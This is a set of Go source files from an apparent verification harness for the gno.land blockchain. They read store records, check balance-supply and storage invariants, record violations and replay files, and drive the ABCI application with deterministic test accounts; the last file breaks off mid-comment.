			if o := g.Objs[id]; o != nil {
				for _, r := range o.Refs {
					t := r.ObjectID.String()
					if !kept[t] {
						kept[t] = true
						st = append(st, t)
					}
				}
			}
		}
		for _, id := range unreachable {
			if !kept[id] {
				o := g.Objs[id]
				add("unreachable", id, "not reachable from any package and not on (or kept by) a reference cycle (RefCount %d, kind %s)", o.Info.RefCount, o.Kind)
			}
		}
	}
	return
}

func onCycle(g *Graph, start string) bool {
	seen := map[string]bool{}
	stack := []string{start}
	first := true
	for len(stack) > 0 {
		id := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		if id == start && !first {
			return true
		}
		first = false
		if seen[id] {
			continue
		}
		seen[id] = true
		if o := g.Objs[id]; o != nil {
			for _, r := range o.Refs {
				stack = append(stack, r.ObjectID.String())
			}
		}
	}
	return false
}

func head(a []string, n int) []string {
	if len(a) > n {
		return a[:n]
	}
	return a
}

// EscapedEntries extracts the escaped-object hash entries of the main store.
func EscapedEntries(main *audit.KV) map[string][]byte {
	out := map[string][]byte{}
	for _, k := range main.Keys {
		if audit.KeyClass(k) == "escaped" {
			out[k] = main.M[k]
		}
	}
	return out
}
