package monitors

import (
	"fmt"
	"sort"
	"strings"

	gno "github.com/gnolang/gno/gnovm/pkg/gnolang"
	"github.com/gnolang/gno/tm2/pkg/amino"

	"verifharness/internal/audit"
)

// RealmAcct is what the store records for one realm next to what is on disk.
type RealmAcct struct {
	Path        string
	ID          string
	Storage     uint64 // recorded
	Deposit     uint64 // recorded
	ObjectBytes uint64 // Σ len(value) over oid:<ID>:* records (excluding the #realm record)
	ParamsBytes uint64 // bytes metered for the realm's own chain/params keys
	Objects     int
}

// ReadRealmAccounts decodes every `oid:<pkgid>:1#realm` record and sums the
// sizes of the objects stored under each PkgID.
func ReadRealmAccounts(base, main *audit.KV) (map[string]*RealmAcct, []string) {
	var issues []string
	byID := map[string]*RealmAcct{}
	sizes := map[string]uint64{}
	counts := map[string]int{}
	for _, k := range base.Keys {
		if !strings.HasPrefix(k, "oid:") {
			continue
		}
		rest := k[4:]
		i := strings.IndexByte(rest, ':')
		if i < 0 {
			continue
		}
		pid := rest[:i]
		if strings.HasSuffix(k, "#realm") {
			var rlm *gno.Realm
			if err := amino.Unmarshal(base.M[k], &rlm); err != nil || rlm == nil {
				issues = append(issues, fmt.Sprintf("realm record %s does not decode: %v", k, err))
				continue
			}
			byID[pid] = &RealmAcct{Path: rlm.Path, ID: pid, Storage: rlm.Storage, Deposit: rlm.Deposit}
			continue
		}
		sizes[pid] += uint64(len(base.M[k]))
		counts[pid]++
	}
	out := map[string]*RealmAcct{}
	for pid, ra := range byID {
		ra.ObjectBytes = sizes[pid]
		ra.Objects = counts[pid]
		out[ra.Path] = ra
	}
	// per-realm params meter: main-store key ".../_realmmeta_<path>"
	for _, k := range main.Keys {
		if i := strings.Index(k, "_realmmeta_"); i >= 0 {
			path := k[i+len("_realmmeta_"):]
			if ra := out[path]; ra != nil {
				ra.ParamsBytes = decodeMeta(main.M[k])
			}
		}
	}
	return out, issues
}

// decodeMeta reads the params byte meter (vm.packMeta: 8-byte big-endian, stored raw).
func decodeMeta(v []byte) uint64 {
	if len(v) < 8 {
		return 0
	}
	var n uint64
	for _, b := range v[:8] {
		n = n<<8 | uint64(b)
	}
	return n
}

// SortedPaths returns realm paths in order.
func SortedPaths(m map[string]*RealmAcct) []string {
	var p []string
	for k := range m {
		p = append(p, k)
	}
	sort.Strings(p)
	return p
}
