package monitors

import (
	"encoding/binary"
	"fmt"
	"sort"
	"strings"

	"github.com/gnolang/gno/tm2/pkg/amino"
	"github.com/gnolang/gno/tm2/pkg/crypto"
	"github.com/gnolang/gno/tm2/pkg/sdk/auth"
	"github.com/gnolang/gno/tm2/pkg/sdk/bank"
	"github.com/gnolang/gno/tm2/pkg/std"

	"verifharness/internal/audit"
)

// Ledger is an independent reading of all coin records from raw main-store bytes.
type Ledger struct {
	Balances map[string]map[string]int64 // addr -> denom -> amount (account tier + split keys)
	Supply   map[string]int64
	Sum      map[string]int64
	Issues   []string
	Accounts int
	SplitKeys int
}

// ReadLedger decodes account records, split balance keys and supply keys directly from main KV.
func ReadLedger(main *audit.KV, accountTier map[string]bool) *Ledger {
	l := &Ledger{Balances: map[string]map[string]int64{}, Supply: map[string]int64{}, Sum: map[string]int64{}}
	add := func(addr, denom string, amt int64) {
		if l.Balances[addr] == nil {
			l.Balances[addr] = map[string]int64{}
		}
		l.Balances[addr][denom] += amt
		l.Sum[denom] += amt
	}
	for _, k := range main.Keys {
		v := main.M[k]
		switch audit.KeyClass(k) {
		case "account":
			var acc std.Account
			if err := amino.Unmarshal(v, &acc); err != nil {
				l.Issues = append(l.Issues, fmt.Sprintf("account record %q does not decode: %v", k, err))
				continue
			}
			l.Accounts++
			var keyAddr crypto.Address
			copy(keyAddr[:], k[len(auth.AddressStoreKeyPrefix):])
			if acc.GetAddress() != keyAddr {
				l.Issues = append(l.Issues, fmt.Sprintf("account object for %s stored under the key of %s", acc.GetAddress(), keyAddr))
			}
			coins := acc.GetCoins()
			for i, c := range coins {
				if c.Amount <= 0 {
					l.Issues = append(l.Issues, fmt.Sprintf("account %s holds non-positive %d%s", keyAddr, c.Amount, c.Denom))
				}
				if !accountTier[c.Denom] {
					l.Issues = append(l.Issues, fmt.Sprintf("account %s holds denom %q inside the account object, which is not an account-tier denom", keyAddr, c.Denom))
				}
				if i > 0 && coins[i-1].Denom >= c.Denom {
					l.Issues = append(l.Issues, fmt.Sprintf("account %s coins not sorted/unique: %v", keyAddr, coins))
				}
				add(keyAddr.String(), c.Denom, c.Amount)
			}
		case "balance":
			l.SplitKeys++
			rest := k[len(bank.BalancePrefix):]
			if len(rest) <= crypto.AddressSize {
				l.Issues = append(l.Issues, fmt.Sprintf("balance key %q too short", k))
				continue
			}
			var addr crypto.Address
			copy(addr[:], rest[:crypto.AddressSize])
			denom := rest[crypto.AddressSize:]
			if len(v) != 8 {
				l.Issues = append(l.Issues, fmt.Sprintf("balance %s/%s value has %d bytes", addr, denom, len(v)))
				continue
			}
			u := binary.BigEndian.Uint64(v)
			if u == 0 || u > 1<<63-1 {
				l.Issues = append(l.Issues, fmt.Sprintf("balance %s/%s = %d is not positive", addr, denom, u))
				continue
			}
			if accountTier[denom] {
				l.Issues = append(l.Issues, fmt.Sprintf("account-tier denom %q filed under a split balance key of %s", denom, addr))
			}
			if err := std.ValidateDenom(denom); err != nil {
				l.Issues = append(l.Issues, fmt.Sprintf("balance key of %s has invalid denom %q", addr, denom))
			}
			add(addr.String(), denom, int64(u))
		case "supply":
			denom := k[len(bank.SupplyPrefix):]
			if len(v) != 8 {
				l.Issues = append(l.Issues, fmt.Sprintf("supply of %q has %d bytes", denom, len(v)))
				continue
			}
			u := binary.BigEndian.Uint64(v)
			if u == 0 || u > 1<<63-1 {
				l.Issues = append(l.Issues, fmt.Sprintf("supply of %q = %d is not positive", denom, u))
			}
			l.Supply[denom] = int64(u)
		}
	}
	denoms := map[string]bool{}
	for d := range l.Supply {
		denoms[d] = true
	}
	for d := range l.Sum {
		denoms[d] = true
	}
	var ds []string
	for d := range denoms {
		ds = append(ds, d)
	}
	sort.Strings(ds)
	for _, d := range ds {
		if l.Supply[d] != l.Sum[d] {
			l.Issues = append(l.Issues, fmt.Sprintf("supply(%s) = %d but balances sum to %d", d, l.Supply[d], l.Sum[d]))
		}
	}
	return l
}

// Holders renders "addr:amount" pairs for a denom (diagnostics).
func (l *Ledger) Holders(denom string) string {
	var s []string
	for a, m := range l.Balances {
		if m[denom] != 0 {
			s = append(s, fmt.Sprintf("%s:%d", a, m[denom]))
		}
	}
	sort.Strings(s)
	return strings.Join(s, " ")
}
