// Package vf is the shared core of the verification harness: seeds, tiers,
// evidence, replay files, known-finding matching, verdicts and a registry of
// checks. Every check is a func(*Ctx); the engine main calls vf.Main().
package vf

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime/debug"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

// VerifRoot is where MANIFEST.json, evidence/, replays/ and known_findings.json live.
func VerifRoot() string {
	if r := os.Getenv("VERIF_ROOT"); r != "" {
		return r
	}
	return "/verif"
}

// OutRoot is where evidence/ and replays/ are written (VERIF_OUT overrides, for scratch-tree runs).
func OutRoot() string {
	if r := os.Getenv("VERIF_OUT"); r != "" {
		return r
	}
	return VerifRoot()
}

// RepoRoot is the gnolang/gno working tree under test.
func RepoRoot() string {
	if r := os.Getenv("VERIF_REPO"); r != "" {
		return r
	}
	return "/repo"
}

// Check is one registered property check.
type Check struct {
	ID    string
	Level string // exploration | fault_enumeration
	Rule  string // how cases are generated and what makes one distinct/non-trivial
	Run   func(c *Ctx)
	// Replay re-executes one recorded witness (optional).
	Replay func(c *Ctx, witness json.RawMessage)
}

var registry = map[string]*Check{}

// Register adds a check to the engine's registry (call from init()).
func Register(ch *Check) {
	if _, dup := registry[ch.ID]; dup {
		panic("duplicate check " + ch.ID)
	}
	if ch.Level == "" {
		ch.Level = "exploration"
	}
	registry[ch.ID] = ch
}

type knownFinding struct {
	Property string `json:"property"`
	Key      string `json:"key"`
	// KeyPrefix matches every key that starts with it: for one root cause that
	// shows up under many per-type keys (<class>/<cause>:<type>).
	KeyPrefix string `json:"key_prefix,omitempty"`
	Status   string `json:"status"` // known | fixed
	Commit   string `json:"commit,omitempty"`
	What     string `json:"what"`
}

// Ctx carries per-run state. All methods are safe for concurrent use.
type Ctx struct {
	ID      string
	Tier    string
	Seed    int64
	WorkDir string
	start   time.Time

	mu          sync.Mutex
	evaluations int64
	distinct    map[[12]byte]struct{}
	samples     []any
	maxSamples  int
	counters    map[string]int64
	extra       map[string]any
	assumptions []string
	rule        string
	level       string
	exhaustive  bool
	violations  int
	knownSeen   map[string]bool
	violKeys    map[string]int
	inconcl     []string
	known       []knownFinding
}

// Quick reports whether this is the quick tier.
func (c *Ctx) Quick() bool { return c.Tier != "thorough" }

// N returns q in the quick tier and t in the thorough tier.
func (c *Ctx) N(q, t int) int {
	if c.Quick() {
		return q
	}
	return t
}

// Rng returns a deterministic PCG stream for (seed, stream index).
func (c *Ctx) Rng(stream uint64) *rand.Rand {
	return rand.New(rand.NewPCG(uint64(c.Seed)^0x9e3779b97f4a7c15, stream*0xbf58476d1ce4e5b9+1))
}

// Eval counts n executions actually run.
func (c *Ctx) Eval(n int) {
	c.mu.Lock()
	c.evaluations += int64(n)
	c.mu.Unlock()
}

// Case records one evaluated case: counts an evaluation, and if nontrivial,
// adds the hash of key to the distinct-nontrivial set.
func (c *Ctx) Case(key string, nontrivial bool) {
	h := sha256.Sum256([]byte(key))
	var k [12]byte
	copy(k[:], h[:12])
	c.mu.Lock()
	c.evaluations++
	if nontrivial {
		c.distinct[k] = struct{}{}
	}
	c.mu.Unlock()
}

// Distinct adds to the distinct-nontrivial set without counting an evaluation.
func (c *Ctx) Distinct(key string) {
	h := sha256.Sum256([]byte(key))
	var k [12]byte
	copy(k[:], h[:12])
	c.mu.Lock()
	c.distinct[k] = struct{}{}
	c.mu.Unlock()
}

// Sample keeps up to maxSamples literal cases for the evidence file.
func (c *Ctx) Sample(v any) {
	c.mu.Lock()
	if len(c.samples) < c.maxSamples {
		c.samples = append(c.samples, v)
	}
	c.mu.Unlock()
}

// Count adds n to a named monitor counter reported under coverage.
func (c *Ctx) Count(name string, n int) {
	c.mu.Lock()
	c.counters[name] += int64(n)
	c.mu.Unlock()
}

// Counter returns the current value of a named counter.
func (c *Ctx) Counter(name string) int64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.counters[name]
}

// Set stores an extra coverage key.
func (c *Ctx) Set(name string, v any) {
	c.mu.Lock()
	c.extra[name] = v
	c.mu.Unlock()
}

// Assume records an assumption / trusted-base statement.
func (c *Ctx) Assume(s string) {
	c.mu.Lock()
	for _, a := range c.assumptions {
		if a == s {
			c.mu.Unlock()
			return
		}
	}
	c.assumptions = append(c.assumptions, s)
	c.mu.Unlock()
}

// SetExhaustive marks that a finite space was enumerated completely.
func (c *Ctx) SetExhaustive(b bool) { c.mu.Lock(); c.exhaustive = b; c.mu.Unlock() }

// Require asserts minimum coverage: if got < min the run is inconclusive.
func (c *Ctx) Require(name string, got int64, min int64) {
	if got < min {
		c.Inconclusive(fmt.Sprintf("coverage %s = %d < required %d", name, got, min))
	}
}

// RequireCounter is Require on a named counter.
func (c *Ctx) RequireCounter(name string, min int64) { c.Require(name, c.Counter(name), min) }

// Inconclusive records that a monitor could not decide (never a violation).
func (c *Ctx) Inconclusive(why string) {
	c.mu.Lock()
	c.inconcl = append(c.inconcl, why)
	c.mu.Unlock()
	fmt.Printf("INCONCLUSIVE property=%s %s\n", c.ID, why)
}

// Violations returns the number of (unknown) violations so far.
func (c *Ctx) Violations() int { c.mu.Lock(); defer c.mu.Unlock(); return c.violations }

// Violation reports a property violation. key is a specific signature
// (failure cause + site or input class) matched against known_findings.json;
// witness is the literal failing case, written to a replay file.
func (c *Ctx) Violation(key string, witness any, format string, args ...any) {
	msg := fmt.Sprintf(format, args...)
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, k := range c.known {
		if k.Property == c.ID && k.Status == "known" && ((k.Key != "" && k.Key == key) || (k.KeyPrefix != "" && strings.HasPrefix(key, k.KeyPrefix))) {
			kk := k.Key + k.KeyPrefix
			if !c.knownSeen[kk] {
				c.knownSeen[kk] = true
				fmt.Printf("KNOWN-FINDING: property=%s %s\n", c.ID, k.What)
			}
			c.counters["known_finding_observations"]++
			return
		}
	}
	c.violKeys[key]++
	c.violations++
	c.counters["violations:"+key]++
	// witnesses: at most 3 per key; after 25 violations only the FIRST occurrence
	// of each new key is still written (so a flooding key cannot hide others)
	if c.violKeys[key] > 3 || (c.violations > 25 && c.violKeys[key] > 1) || len(c.violKeys) > 300 {
		return
	}
	dir := filepath.Join(OutRoot(), "replays", c.ID)
	os.MkdirAll(dir, 0o755)
	path := filepath.Join(dir, fmt.Sprintf("%d-%d.json", c.Seed, c.violations))
	rec := map[string]any{"property": c.ID, "seed": c.Seed, "tier": c.Tier, "key": key, "message": msg, "witness": witness}
	b, err := json.MarshalIndent(rec, "", " ")
	if err != nil {
		b, _ = json.MarshalIndent(map[string]any{"property": c.ID, "seed": c.Seed, "key": key, "message": msg, "witness": fmt.Sprintf("%+v", witness)}, "", " ")
	}
	os.WriteFile(path, b, 0o644)
	fmt.Printf("VIOLATION property=%s replay=%s\n", c.ID, path)
	fmt.Printf("  key=%s %s\n", key, truncate(msg, 2000))
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}

// Logf prints progress to stderr.
func (c *Ctx) Logf(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "[%s %s %6.1fs] %s\n", c.ID, c.Tier, time.Since(c.start).Seconds(), fmt.Sprintf(format, args...))
}

func loadKnown() []knownFinding {
	b, err := os.ReadFile(filepath.Join(VerifRoot(), "known_findings.json"))
	if err != nil {
		return nil
	}
	var f struct {
		Findings []knownFinding `json:"findings"`
	}
	if json.Unmarshal(b, &f) != nil {
		return nil
	}
	return f.Findings
}

func (c *Ctx) writeEvidence(ch *Check) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	cov := map[string]any{}
	for k, v := range c.extra {
		cov[k] = v
	}
	names := make([]string, 0, len(c.counters))
	for k := range c.counters {
		names = append(names, k)
	}
	sort.Strings(names)
	mon := map[string]int64{}
	for _, k := range names {
		mon[k] = c.counters[k]
	}
	cov["monitor_counters"] = mon
	cov["evaluations"] = c.evaluations
	cov["distinct_nontrivial"] = len(c.distinct)
	cov["rule"] = ch.Rule
	if c.samples == nil {
		c.samples = []any{}
	}
	cov["samples"] = c.samples
	if c.exhaustive {
		cov["exhaustive"] = true
	}
	if len(c.inconcl) > 0 {
		cov["inconclusive"] = c.inconcl
	}
	ev := map[string]any{
		"property_id": c.ID,
		"tier":        c.Tier,
		"seed":        c.Seed,
		"level":       ch.Level,
		"coverage":    cov,
		"assumptions": c.assumptions,
		"wall_s":      float64(int(time.Since(c.start).Seconds()*100)) / 100,
		"violations":  c.violations,
	}
	if c.assumptions == nil { // a typed nil slice would be written as null
		ev["assumptions"] = []string{}
	}
	b, err := json.MarshalIndent(ev, "", " ")
	if err != nil {
		return err
	}
	dir := filepath.Join(OutRoot(), "evidence")
	os.MkdirAll(dir, 0o755)
	tmp := filepath.Join(dir, "."+c.ID+".json.tmp")
	if err := os.WriteFile(tmp, b, 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, filepath.Join(dir, c.ID+".json"))
}

// Main is the engine entry point: `<engine> <ID> <quick|thorough> [--replay file]`.
// Exit codes: 0 held on everything explored (inconclusive parts are printed and recorded; 3 instead when VERIF_STRICT is set), 1 violated, 2 harness error.
func Main() {
	fs := flag.NewFlagSet("engine", flag.ExitOnError)
	replay := fs.String("replay", "", "replay one recorded witness")
	list := fs.Bool("list", false, "list checks")
	args := os.Args[1:]
	var pos []string
	for len(args) > 0 && !strings.HasPrefix(args[0], "-") {
		pos = append(pos, args[0])
		args = args[1:]
	}
	fs.Parse(args)
	pos = append(pos, fs.Args()...)
	if *list {
		ids := make([]string, 0, len(registry))
		for id := range registry {
			ids = append(ids, id)
		}
		sort.Strings(ids)
		fmt.Println(strings.Join(ids, " "))
		return
	}
	if len(pos) < 1 {
		fmt.Fprintln(os.Stderr, "usage: engine <ID> [quick|thorough] [--replay file]")
		os.Exit(2)
	}
	id := pos[0]
	tier := "quick"
	if len(pos) > 1 {
		tier = pos[1]
	}
	if t := os.Getenv("VERIF_TIER"); t != "" && len(pos) < 2 {
		tier = t
	}
	if tier != "quick" && tier != "thorough" {
		fmt.Fprintln(os.Stderr, "tier must be quick or thorough")
		os.Exit(2)
	}
	ch := registry[id]
	if ch == nil {
		fmt.Fprintf(os.Stderr, "unknown check %s\n", id)
		os.Exit(2)
	}
	seed := int64(1)
	if s := os.Getenv("VERIF_SEED"); s != "" {
		if v, err := strconv.ParseInt(s, 10, 64); err == nil {
			seed = v
		}
	}
	work := filepath.Join(VerifRoot(), ".work", fmt.Sprintf("%s.%d", id, os.Getpid()))
	os.MkdirAll(work, 0o755)
	c := &Ctx{
		ID: id, Tier: tier, Seed: seed, WorkDir: work, start: time.Now(),
		distinct: map[[12]byte]struct{}{}, counters: map[string]int64{}, extra: map[string]any{},
		maxSamples: 5, rule: ch.Rule, level: ch.Level, knownSeen: map[string]bool{}, violKeys: map[string]int{},
		known: loadKnown(),
	}
	code := 0
	func() {
		defer func() {
			if r := recover(); r != nil {
				fmt.Fprintf(os.Stderr, "HARNESS PANIC in %s: %v\n%s\n", id, r, debug.Stack())
				code = 2
			}
		}()
		if *replay != "" {
			b, err := os.ReadFile(*replay)
			if err != nil {
				panic(err)
			}
			var rec struct {
				Seed    int64           `json:"seed"`
				Tier    string          `json:"tier"`
				Witness json.RawMessage `json:"witness"`
			}
			if err := json.Unmarshal(b, &rec); err != nil {
				panic(err)
			}
			if ch.Replay != nil {
				ch.Replay(c, rec.Witness)
			} else {
				// default: re-run the whole check at the recorded seed and tier
				c.Seed = rec.Seed
				if rec.Tier != "" {
					c.Tier = rec.Tier
				}
				ch.Run(c)
			}
			return
		}
		ch.Run(c)
	}()
	c.collectRaceReports()
	os.RemoveAll(work)
	if code == 2 {
		os.Exit(2)
	}
	if err := c.writeEvidence(ch); err != nil {
		fmt.Fprintln(os.Stderr, "evidence:", err)
		os.Exit(2)
	}
	c.mu.Lock()
	v, inc := c.violations, len(c.inconcl)
	ev, dn := c.evaluations, len(c.distinct)
	c.mu.Unlock()
	fmt.Printf("RESULT property=%s tier=%s seed=%d evaluations=%d distinct_nontrivial=%d violations=%d inconclusive=%d wall=%.1fs\n",
		id, tier, seed, ev, dn, v, inc, time.Since(c.start).Seconds())
	switch {
	case v > 0:
		os.Exit(1)
	case inc > 0 && os.Getenv("VERIF_STRICT") != "":
		// strict mode (used while developing the checks): an inconclusive run is not a pass
		os.Exit(3)
	}
	// Interface: exit 0 = the property held on everything explored. An inconclusive part (watchdog,
	// coverage minimum missed) is neither a violation nor evidence: it is printed as INCONCLUSIVE
	// lines, counted in the RESULT line and recorded in the evidence file.
}

// Hex is a helper for witnesses.
func Hex(b []byte) string { return hex.EncodeToString(b) }

// Parallel runs fn(i, rng) for i in [0,n) on `workers` goroutines; each case
// gets its own deterministic rng derived from (seed, base+i).
func (c *Ctx) Parallel(n, workers int, base uint64, fn func(i int, rng *rand.Rand)) {
	if workers < 1 {
		workers = 1
	}
	var wg sync.WaitGroup
	ch := make(chan int, workers)
	var pmu sync.Mutex
	var perr any
	var pstack []byte
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range ch {
				func() {
					defer func() {
						if r := recover(); r != nil {
							pmu.Lock()
							if perr == nil {
								perr = r
								pstack = debug.Stack()
							}
							pmu.Unlock()
						}
					}()
					fn(i, c.Rng(base+uint64(i)))
				}()
			}
		}()
	}
	for i := 0; i < n; i++ {
		ch <- i
	}
	close(ch)
	wg.Wait()
	if perr != nil {
		panic(fmt.Sprintf("%v\n%s", perr, pstack))
	}
}

// Try runs f and returns the recovered panic value (nil if none).
func Try(f func()) (pv any) {
	defer func() {
		if r := recover(); r != nil {
			pv = r
		}
	}()
	f()
	return nil
}

// collectRaceReports turns Go race-detector reports (written by the runtime to
// $VERIF_RACE_LOG.<pid> because GORACE=log_path=… halt_on_error=0) into
// violations, de-duplicated by the pair of top frames.
func (c *Ctx) collectRaceReports() {
	base := os.Getenv("VERIF_RACE_LOG")
	if base == "" {
		return
	}
	c.Set("race_detector", "enabled")
	matches, _ := filepath.Glob(base + ".*")
	total := 0
	seen := map[string]bool{}
	for _, m := range matches {
		b, err := os.ReadFile(m)
		if err != nil {
			continue
		}
		blocks := strings.Split(string(b), "WARNING: DATA RACE")
		for _, blk := range blocks[1:] {
			total++
			var frames []string
			lines := strings.Split(blk, "\n")
			for i, l := range lines {
				if (strings.HasPrefix(l, "Write at") || strings.HasPrefix(l, "Read at") || strings.HasPrefix(l, "Previous write at") || strings.HasPrefix(l, "Previous read at")) && i+1 < len(lines) {
					frames = append(frames, strings.TrimSpace(lines[i+1]))
				}
			}
			sort.Strings(frames)
			sig := strings.Join(frames, " | ")
			if seen[sig] {
				continue
			}
			seen[sig] = true
			c.Violation("race:"+sig, truncate(blk, 6000), "data race reported by the Go race detector: %s", sig)
		}
	}
	c.Count("race_reports", total)
	c.Count("race_reports_distinct", len(seen))
}
