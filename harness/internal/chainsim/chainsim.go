// Package chainsim drives the real gno.land ABCI application
// (gnoland.NewAppWithOptions, production wiring) at the ABCI boundary:
// InitChain / BeginBlock / DeliverTx / EndBlock / Commit / Query / CheckTx.
// It keeps a client-side model of account numbers and sequences so it can sign
// transactions, and records a trace of consensus-relevant observations.
package chainsim

import (
	"bytes"
	"encoding/json"
	"strconv"
	"fmt"
	"sort"
	"time"

	"github.com/gnolang/gno/gno.land/pkg/gnoland"
	"github.com/gnolang/gno/gno.land/pkg/sdk/vm"
	gno "github.com/gnolang/gno/gnovm/pkg/gnolang"
	"github.com/gnolang/gno/tm2/pkg/amino"
	abci "github.com/gnolang/gno/tm2/pkg/bft/abci/types"
	bft "github.com/gnolang/gno/tm2/pkg/bft/types"
	"github.com/gnolang/gno/tm2/pkg/crypto"
	"github.com/gnolang/gno/tm2/pkg/crypto/secp256k1"
	dbm "github.com/gnolang/gno/tm2/pkg/db"
	"github.com/gnolang/gno/tm2/pkg/db/memdb"
	"github.com/gnolang/gno/tm2/pkg/sdk"
	"github.com/gnolang/gno/tm2/pkg/std"
	storetypes "github.com/gnolang/gno/tm2/pkg/store/types"
)

const ChainID = "dev"

// Account is a deterministic test key with the client-side view of its
// account number and sequence.
type Account struct {
	Name   string
	Key    crypto.PrivKey
	Addr   crypto.Address
	AccNum uint64
	Seq    uint64
	Known  bool // account number known (exists on chain)
}

// NewAccount derives a deterministic secp256k1 key from name.
func NewAccount(name string) *Account {
	k := secp256k1.GenPrivKeySecp256k1([]byte("verif-key-" + name))
	return &Account{Name: name, Key: k, Addr: k.PubKey().Address()}
}

// Options configures a chain.
type Options struct {
	DB            dbm.DB // default memdb
	MaxGas        int64  // consensus block MaxGas (default 3e9)
	Prune         storetypes.PruneStrategy
	NoStdlibCache bool
	MinGasPrices  string
	// OpenDB reopens the DB after Close (for on-disk backends); nil = keep DB handle.
	OpenDB func() dbm.DB
	// Mutate lets a check tweak app options before construction.
	Mutate func(*gnoland.AppOptions)
}

// TxResult is the consensus-relevant part of a DeliverTx response.
type TxResult struct {
	Height    int64
	Index     int
	TxBytes   []byte
	Res       abci.ResponseDeliverTx
	OK        bool
	ErrString string
	Log       string
}

// ResultBytes returns the amino bytes of {Error,Data,Events} (what
// bft/types/results.go hashes) plus gas numbers.
func (t *TxResult) ResultKey() string {
	r := bft.NewResults([]abci.ResponseDeliverTx{t.Res})
	return fmt.Sprintf("%x|%d|%d", r[0].Bytes(), t.Res.GasWanted, t.Res.GasUsed)
}

// BlockTrace is what one block produced.
type BlockTrace struct {
	Height  int64
	AppHash []byte
	Txs     []*TxResult
}

// Chain is one running application instance plus its DB.
type Chain struct {
	Opts     Options
	DB       dbm.DB
	App      *sdk.BaseApp
	Height   int64
	Time     time.Time
	Accounts map[string]*Account
	Trace    []*BlockTrace
	InitResp abci.ResponseInitChain
	cur      *BlockTrace
	nextAcc  uint64
	Restarts int
}

// New builds the app on opts.DB (not yet initialised).
func New(opts Options) (*Chain, error) {
	if opts.DB == nil {
		opts.DB = memdb.NewMemDB()
	}
	if opts.MaxGas == 0 {
		opts.MaxGas = 3_000_000_000
	}
	c := &Chain{Opts: opts, DB: opts.DB, Accounts: map[string]*Account{}, Time: time.Unix(1_700_000_000, 0).UTC()}
	if err := c.open(); err != nil {
		return nil, err
	}
	return c, nil
}

func (c *Chain) open() error {
	ao := gnoland.TestAppOptions(c.DB)
	ao.GenesisTxResultHandler = gnoland.NoopGenesisTxResultHandler
	ao.CacheStdlibLoad = !c.Opts.NoStdlibCache
	ao.SkipGenesisSigVerification = true
	ao.MinGasPrices = c.Opts.MinGasPrices
	if c.Opts.Prune != "" {
		ao.PruneStrategy = c.Opts.Prune
	}
	if c.Opts.Mutate != nil {
		c.Opts.Mutate(ao)
	}
	app, err := gnoland.NewAppWithOptions(ao)
	if err != nil {
		return err
	}
	c.App = app.(*sdk.BaseApp)
	return nil
}

// Reopen builds a chain object on a DB that already holds committed state
// (e.g. written by another process): height and header time continue the
// BeginBlock cadence (5 s per block), account models are synced lazily.
func Reopen(opts Options) (*Chain, error) {
	c, err := New(opts)
	if err != nil {
		return nil, err
	}
	c.Height = c.App.LastBlockHeight()
	c.Time = c.Time.Add(time.Duration(c.Height) * 5 * time.Second)
	return c, nil
}

// SyncAll refreshes the sequence model of the named accounts from committed state.
func (c *Chain) SyncAll(names ...string) {
	for _, n := range names {
		c.SyncAccount(c.Acc(n))
	}
}

// Acc returns (creating if needed) the named account.
func (c *Chain) Acc(name string) *Account {
	a := c.Accounts[name]
	if a == nil {
		a = NewAccount(name)
		c.Accounts[name] = a
	}
	return a
}

// Genesis describes the initial state.
type Genesis struct {
	State gnoland.GnoGenesisState
	// Funded accounts in order; they get account numbers 0..n-1 in this order
	// (balances are applied in order before genesis txs).
}

// ConsensusParams returns the params used at InitChain.
func (c *Chain) ConsensusParams() *abci.ConsensusParams {
	return &abci.ConsensusParams{
		Block:     &abci.BlockParams{MaxTxBytes: 1_000_000, MaxDataBytes: 2_000_000, MaxGas: c.Opts.MaxGas, TimeIotaMS: 100},
		Validator: &abci.ValidatorParams{PubKeyTypeURLs: []string{}},
	}
}

// DefaultGenState returns gnoland.DefaultGenState with the given funded
// accounts (each 10^13 ugnot) and registers their account numbers.
func (c *Chain) DefaultGenState(funded ...string) gnoland.GnoGenesisState {
	st := gnoland.DefaultGenState()
	for _, n := range funded {
		a := c.Acc(n)
		st.Balances = append(st.Balances, gnoland.Balance{Address: a.Addr, Amount: std.Coins{{Denom: "ugnot", Amount: 10_000_000_000_000}}})
	}
	return st
}

// InitChain runs InitChain with st (in-memory app state). Account numbers of
// balance accounts are assigned in order of first appearance, as the keeper does.
func (c *Chain) InitChain(st any) abci.ResponseInitChain {
	resp := c.App.InitChain(abci.RequestInitChain{
		Time:            c.Time,
		ChainID:         ChainID,
		ConsensusParams: c.ConsensusParams(),
		AppState:        st,
	})
	c.InitResp = resp
	return resp
}

// SyncAccount reads account number and sequence from the committed state.
func (c *Chain) SyncAccount(a *Account) bool {
	q := c.App.Query(abci.RequestQuery{Path: "auth/accounts/" + a.Addr.String()})
	if q.Error != nil || len(q.Data) == 0 || string(q.Data) == "null" {
		return false
	}
	// The JSON shape depends on the concrete account type (GnoAccount, vesting
	// wrappers…): find account_number and sequence wherever they are nested.
	var raw any
	if err := json.Unmarshal(q.Data, &raw); err != nil {
		panic(fmt.Sprintf("SyncAccount: cannot decode %s: %v", q.Data, err))
	}
	num, ok1 := findUint(raw, "account_number")
	seq, ok2 := findUint(raw, "sequence")
	if !ok1 || !ok2 {
		panic(fmt.Sprintf("SyncAccount: no account_number/sequence in %s", q.Data))
	}
	a.AccNum, a.Seq, a.Known = num, seq, true
	return true
}

func findUint(v any, key string) (uint64, bool) {
	switch t := v.(type) {
	case map[string]any:
		if x, ok := t[key]; ok {
			if s, ok := x.(string); ok {
				n, err := strconv.ParseUint(s, 10, 64)
				return n, err == nil
			}
		}
		keys := make([]string, 0, len(t))
		for k := range t {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			if n, ok := findUint(t[k], key); ok {
				return n, true
			}
		}
	}
	return 0, false
}

// Fee builds a fee.
